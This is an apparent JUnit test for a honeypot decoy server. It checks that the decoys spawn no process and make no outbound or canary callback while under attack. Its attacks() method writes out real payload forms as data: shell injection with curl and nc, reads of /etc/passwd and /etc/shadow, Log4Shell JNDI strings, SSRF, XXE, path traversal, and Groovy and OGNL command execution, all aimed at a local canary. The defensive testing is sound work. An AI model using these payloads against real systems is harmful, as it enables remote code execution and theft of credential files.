package dev.moat.decoy;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.io.OutputStream;
import java.net.InetAddress;
import java.net.ServerSocket;
import java.net.Socket;
import java.nio.charset.StandardCharsets;
import java.time.Clock;
import java.util.ArrayList;
import java.util.HashSet;
import java.util.List;
import java.util.Set;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.condition.EnabledOnOs;
import org.junit.jupiter.api.condition.OS;

/**
 * Rule 5: decoys never execute, evaluate, deserialise or fetch anything from attacker input. The decoys are attacked
 * with payloads that would spawn a process or call back to a canary listener if anything acted on them, while a
 * sampler watches three things the whole time:
 * <ul>
 *   <li>the JVM's process tree ({@code ProcessHandle.current().descendants()}) — must stay empty; the attacks use raw
 *       sockets so the test itself spawns nothing;
 *   <li>the canary, a listener on 127.0.0.1 every callback payload points at — must never be connected to;
 *   <li>this process's own TCP sockets (socket inodes under /proc/self/fd, looked up in /proc/self/net/tcp and tcp6) —
 *       no socket may appear that is neither accepted by a decoy nor a test client connecting to one.
 * </ul>
 * What it cannot see: a connection opened and closed between two samples to somewhere other than the canary.
 * Decoys added to the catalogue belong in {@link #decoys()} and their attacks in {@link #attacks}.
 */
@EnabledOnOs(OS.LINUX)
class NoExecutionTest {

  @Test
  void attackedDecoysSpawnNoProcessAndOpenNoOutboundConnection() throws Exception {
    try (ExecutionWatch watch = new ExecutionWatch()) {
      RecordingPublisher alerts = new RecordingPublisher();
      try (DecoyServer server = DecoyServer.start(decoys(), "127.0.0.1", DecoyLimits.defaults(), alerts, Clock.systemUTC())) {
        watch.start(new HashSet<>(server.boundPorts().values()));
        int sent = 0;
        try {
          for (String name : server.boundPorts().keySet()) {
            for (String attack : attacks(name, watch.canaryPort())) {
              send(server.boundPorts().get(name), attack);
              sent++;
            }
          }
          alerts.await(a -> a.excerpt().contains("jndi"));
        } finally {
          watch.stop();
        }

        assertThat(sent).isGreaterThan(10);
        assertThat(alerts.alerts()).hasSizeGreaterThanOrEqualTo(sent);
        assertThat(watch.children()).as("child processes while attacked").isEmpty();
        assertThat(ProcessHandle.current().descendants().count()).isZero();
        assertThat(watch.outbound()).as("outbound connections while attacked").isEmpty();
        assertThat(watch.callbacks()).as("connections to the canary").isZero();
      }
    }
  }

  @Test
  void theSocketScanSeesAConnectionThisProcessOpens() throws Exception {
    try (ServerSocket elsewhere = new ServerSocket(0, 50, InetAddress.getLoopbackAddress());
        Socket out = new Socket("127.0.0.1", elsewhere.getLocalPort());
        Socket accepted = elsewhere.accept()) {
      String remote = String.format(":%04X state", elsewhere.getLocalPort());
      assertThat(ExecutionWatch.outboundSockets(Set.of(), -1)).anySatisfy(s -> assertThat(s).contains(remote));
      assertThat(ExecutionWatch.outboundSockets(Set.of(), elsewhere.getLocalPort())).anySatisfy(s -> assertThat(s).contains(remote));
    }
  }

  /** Every decoy under attack, on ephemeral ports. */
  static List<ServedDecoy> decoys() throws Exception {
    List<ServedDecoy> decoys = new ArrayList<>();
    new DecoyConfigReader(DecoyCatalog.builtIn()).parse("decoys.yaml", GenericDecoyTest.CONFIG).served()
        .forEach(s -> decoys.add(new ServedDecoy(s.identity(), s.emulator(), 0)));
    return decoys;
  }

  /** Raw attack bytes for one decoy; callback payloads point at the canary. */
  static List<String> attacks(String decoy, int canary) {
    String cb = "127.0.0.1:" + canary;
    if (decoy.equals("legacy-ftp")) {
      return List.of("USER anonymous\r\nPASS x\r\nSITE EXEC /bin/sh -c 'curl http://" + cb + "/'\r\n",
          "$(nc " + cb.replace(':', ' ') + ")\r\n;id\r\n|cat /etc/passwd\r\n",
          "PORT 127,0,0,1," + (canary >> 8) + "," + (canary & 255) + "\r\nRETR /etc/shadow\r\n",
          "${jndi:ldap://" + cb + "/a}\r\n");
    }
    List<String> http = new ArrayList<>();
    for (String target : List.of("/admin/?cmd=id", "/api/v1/login", "/health?url=http://" + cb + "/", "/ping?host=;curl%20" + cb,
        "/download?file=..%2f..%2f..%2fetc%2fpasswd", "/$%7Bjndi:ldap://" + cb + "/x%7D", "/struts?%25%7B(%23cmd%3D'id')%7D")) {
      http.add("GET " + target + " HTTP/1.1\r\nHost: " + cb + "\r\nUser-Agent: ${jndi:ldap://" + cb + "/ua}\r\n"
          + "X-Forwarded-For: ${jndi:dns://" + cb + "/xff}\r\nReferer: http://" + cb + "/\r\nConnection: close\r\n\r\n");
    }
    String xml = "<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY e SYSTEM \"http://" + cb + "/xxe\">]><x>&e;</x>";
    http.add("POST /api/v1/login HTTP/1.1\r\nHost: x\r\nContent-Type: application/xml\r\nContent-Length: " + xml.length()
        + "\r\nConnection: close\r\n\r\n" + xml);
    String script = "println 'id'.execute().text; new URL('http://" + cb + "/').text";
    http.add("POST /script HTTP/1.1\r\nHost: x\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: "
        + (7 + script.length()) + "\r\nConnection: close\r\n\r\nscript=" + script);
    http.add("GET / HTTP/1.1\r\nHost: x\r\nX-Big: " + "a".repeat(20_000) + "\r\n\r\n");
    return http;
  }

  private static void send(int port, String attack) throws IOException {
    try (Socket s = new Socket("127.0.0.1", port)) {
      s.setSoTimeout(20_000);
      OutputStream out = s.getOutputStream();
      try {
        out.write(attack.getBytes(StandardCharsets.UTF_8));
        out.flush();
        s.shutdownOutput();
        s.getInputStream().transferTo(OutputStream.nullOutputStream());
      } catch (IOException reset) {
        // a decoy may close first (limits); the attack was delivered as far as it allowed
      }
    }
  }


}
